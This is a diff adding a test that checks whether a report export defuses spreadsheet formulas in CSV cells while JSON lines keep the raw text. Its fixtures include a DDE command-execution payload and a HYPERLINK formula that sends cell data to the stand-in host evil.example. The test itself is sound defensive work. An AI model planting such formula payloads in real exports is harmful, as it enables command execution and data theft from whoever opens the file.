@@ -111,6 +111,24 @@ describe("report exports", () => {
     ]);
   });
 
+  it("defuses spreadsheet formulas in CSV text cells; JSON lines keep the exact text", async () => {
+    const source = await insertSource("formulas");
+    const thread = await insertThread(source, "=cmd|' /C calc'!A0", null);
+    const bodies = ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', "@Editor you missed this", "+1 to that", "-2 votes", "\tTabbed", "A = B is fine"];
+    for (const [i, body] of bodies.entries()) {
+      await insertComment({ sid: `f${i}`, threadId: thread, sourceId: source, postedAt: `2026-07-01T10:0${i}:00Z`, body });
+    }
+    const rows = await csv("source=formulas");
+    expect(rows.map((r) => r.body)).toEqual([
+      `'=HYPERLINK("http://evil.example/?x="&A1,"Click")`, "'@Editor you missed this", "'+1 to that", "'-2 votes", "'\tTabbed", "A = B is fine",
+    ]);
+    expect(rows[0]!["thread.key"]).toBe("'=cmd|' /C calc'!A0");
+    const lines = (await text("format=jsonl&source=formulas")).trim().split("\n").map((l) => JSON.parse(l));
+    expect(lines.map((l) => l.body)).toEqual(bodies);
+    // The other tests count the rows of the dataset above.
+    await pool.query("DELETE FROM comment WHERE source_id = $1", [source]);
+  });
+
   it("finds log entries by the typed part of an email, % and _ taken literally", async () => {
     await pool.query("DELETE FROM export_run");
     const exact = await createUser({ email: "ann_lee@reports.test", role: "staff" });
